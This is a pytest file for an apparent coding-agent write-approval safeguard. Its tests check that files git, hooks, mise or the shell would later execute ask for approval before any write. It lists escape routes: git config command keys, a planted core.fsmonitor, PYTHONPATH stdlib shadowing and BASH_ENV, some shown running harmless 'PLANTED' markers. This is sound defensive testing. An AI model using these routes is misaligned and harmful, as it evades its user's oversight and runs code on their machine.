    """Configuration git runs as a command names a script of the tree: `diff.external`
    (every `git diff` of the user's review), `core.gitProxy`, `gpg.ssh.defaultKeyCommand`,
    `difftool.<t>.cmd`, `mergetool.<t>.cmd`, `submodule.<n>.update = !cmd`, any key
    named `...cmd` or `command`, git-lfs's custom transfer; each command read as a hook's
    line (`python3 -m conv.clean`: conv/clean.py; `python3 nbconv`: the package);
    the ignore and attributes files the configuration names, new or not (`*` there hides
    every untracked file from `git status`); and any key's value naming an executable of
    the tree. Each asks (each came back from a confined write and ran, or hid, at the
    user's next git command); other files stay writable. The home's git ignore and
    attributes files are its git configuration's, wherever `XDG_CONFIG_HOME` puts them."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(root / "xdg"))
    _git("init", "-q", str(root))
    keys = {
        "diff.external": "tools/diff.sh", "core.gitProxy": "tools/proxy.sh",
        "gpg.ssh.defaultKeyCommand": "tools/key.sh", "difftool.sem.cmd": "tools/difftool.sh",
        "mergetool.sem.cmd": "tools/mergetool.sh", "submodule.v.update": "!tools/update.sh",
        "trailer.sign.command": "tools/trailer.sh", "sendemail.toCmd": "tools/to.sh",
        "lfs.customtransfer.x.path": "tools/lfs.sh", "filter.strip.clean": "python3 -m conv.clean",
        "diff.nb.textconv": "python3 nbconv", "core.excludesFile": ".myignore",
        "core.attributesFile": "attrs/a", "acme.hook": "bin/acme",
        "diff.tc.textconv": "sh conv2", "filter.y.smudge": "bash -e lib/smudge",
    }  # fmt: skip
    for key, value in keys.items():
        _git("-C", str(root), "config", key, value)
    _write_files(root, {"bin/acme": "#!/bin/sh\n", "nbconv/__main__.py": "", "lib/notes": "x"})
    (root / "bin" / "acme").chmod(0o755)
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["tools/diff.sh", "tools/proxy.sh", "tools/key.sh", "tools/difftool.sh",
             "tools/mergetool.sh", "tools/update.sh", "tools/trailer.sh", "tools/to.sh",
             "tools/lfs.sh", "conv/clean.py", "nbconv/__main__.py", "nbconv/new.py",
             ".myignore", "attrs/a", "bin/acme", "xdg/git/ignore", "conv2",
             "lib/smudge"]  # fmt: skip
    for path in [*asked, "tools/other.py", "src/x.py", "lib/notes", "bin/other"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


@pytest.mark.parametrize(
    ("line", "planted"),
    [
        ("cd tools && python3 -m lint", ["tools/argparse.py", "tools/lint/__init__.py"]),
        ("PYTHONPATH=src python3 -m pkg.lint", ["src/argparse.py", "src/pkg/__init__.py"]),
        ("uv run --no-project -m tools.lint", ["tools/__init__.py", "argparse.py"]),
        ("uv run python -m tools.lint", ["tools/lint/__init__.py", "argparse.py"]),
    ],
)
def test_what_python_imports_after_a_cd_through_pythonpath_or_a_runner_is_protected(
    root: Path, line: str, planted: list[str]
) -> None:
    """The first-searched directory follows a `cd` of the line and an assigned
    PYTHONPATH's entries, and a runner's own `-m` (`uv run -m`) is python's; the
    interpreter really imports a planted file in the first two shapes."""
    from prism.coding.security import _callees
    from prism.coding.security._protected import AnchoredPaths

    if line.startswith(("cd", "PYTHONPATH")):
        here = root / ("tools" if line.startswith("cd") else "src/pkg")
        here.mkdir(parents=True)
        (here / "__init__.py").write_text("")
        (here / "lint.py").write_text("import argparse\nprint('lint ok')\n")
        (root / planted[0]).write_text("print('PLANTED')\n")
        cwd, env = (root / "tools", {}) if line.startswith("cd") else (root, {"PYTHONPATH": "src"})
        ran = subprocess.run(
            [sys.executable, "-m", "lint" if line.startswith("cd") else "pkg.lint"], cwd=cwd,
            env={**os.environ, **env}, capture_output=True, text=True, check=False,
        )  # fmt: skip
        assert "PLANTED" in ran.stdout, (ran.stdout, ran.stderr)  # the attack is real
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text(f"#!/bin/sh\n{line}\n")
    top = str(root)
    anchored = AnchoredPaths(_callees.hook_callees(top, [str(hooks)], top, []))
    for path in planted:
        assert anchored.covers(fold_parts(path.split("/"))) is not None, path


def test_what_node_runs_for_a_hooks_program_without_its_extension_is_protected(
    root: Path,
) -> None:
    """`node tools/lint` runs tools/lint.js (or .mjs, .cjs, .json, .node, a directory's
    index) when tools/lint is missing: each is protected; real node runs the first."""
    node = shutil.which("node")
    (root / "tools").mkdir()
    (root / "tools" / "lint.js").write_text("console.log('PLANTED')\n")
    if node is not None:  # (the attack is real where node is installed)
        ran = subprocess.run([node, "tools/lint"], cwd=root, capture_output=True, text=True)
        assert "PLANTED" in ran.stdout, (ran.stdout, ran.stderr)
    from prism.coding.security import _callees
    from prism.coding.security._protected import AnchoredPaths

    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nnode tools/lint\n")
    top = str(root)
    anchored = AnchoredPaths(_callees.hook_callees(top, [str(hooks)], top, []))
    for path in ["tools/lint.js", "tools/lint.mjs", "tools/lint.cjs", "tools/lint/index.js"]:
        assert anchored.covers(fold_parts(path.split("/"))) is not None, path
    assert anchored.covers(fold_parts(["tools", "other.js"])) is None


def test_a_configuration_a_hooks_line_points_git_at_is_protected(root: Path) -> None:
    """A hook's line that points its git at a file of the tree (`GIT_CONFIG_GLOBAL=...`,
    `export GIT_DIR=...`, `git -c include.path=...`, `-c core.hooksPath=...`, `-c
    core.fsmonitor=...`, `--git-dir=...`): what that file holds decides what the line's
    git runs (a planted `core.fsmonitor` ran at the user's next commit). Real bash and
    git run the first two with a configuration whose fsmonitor leaves a mark; each file
    asks, other files stay writable."""
    _git("init", "-q", str(root))
    ran = root.parent / "ran"
    (root / ".git" / "hooks" / "pre-commit").write_text(
        "#!/bin/bash\nGIT_CONFIG_GLOBAL=d/gitconfig git status --short >/dev/null\n"
        'git -c include.path="$PWD/e/gitconfig" status --short >/dev/null\n'
        "git -c core.hooksPath=f/hooks -c core.fsmonitor=g/f.sh status >/dev/null\n"
        "export GIT_DIR=h/repo\ngit --git-dir=i/repo log >/dev/null 2>&1 || true\n"
    )
    for directory in ("d", "e"):
        monitor = f'[core]\n\tfsmonitor = "echo {directory} >> $RAN; false"\n'
        _write_files(root, {f"{directory}/gitconfig": monitor})
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "RAN": str(ran),
        "HOME": str(root.parent),
    }
    subprocess.run(
        ["bash", ".git/hooks/pre-commit"], cwd=root, env=env, capture_output=True, check=False
    )
    assert set(ran.read_text().split()) == {"d", "e"}  # (the line's git ran what each names)
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["d/gitconfig", "e/gitconfig", "f/hooks/pre-commit", "g/f.sh", "h/repo/config",
             "i/repo/config"]  # fmt: skip
    for path in [*asked, "d/other", "src/x.py"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path


def test_what_a_mise_configurations_env_names_is_protected(root: Path) -> None:
    """mise exports `[env]` into the user's shell on entering the project: a
    `PYTHONPATH` directory's modules that shadow the standard library, the file
    `BASH_ENV` names (bash sources it first) and git's own configuration file
    (`GIT_CONFIG_GLOBAL`: a planted fsmonitor runs at the next `git status`) each ask,
    as an `.envrc`'s would; other files there stay writable."""
    _write_files(
        root,
        {
            "mise.toml": '[env]\nPYTHONPATH = "{{config_root}}/d"\n'
            'BASH_ENV = "{{config_root}}/e/env.sh"\n'
            'GIT_CONFIG_GLOBAL = "{{config_root}}/g/gitconfig"\nPLAIN = "{{config_root}}/p/x"\n',
        },
    )
    policy = create_coding_approval_policy(roots=[str(root)])
    asked = ["d/re.py", "d/os.py", "e/env.sh", "g/gitconfig"]
    for path in [*asked, "d/zz_project_module.py", "e/other.sh", "p/x", "src/x.py"]:
        decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
        assert isinstance(decision, ExecutionDecision)
        assert decision.allowed is (path not in asked), path
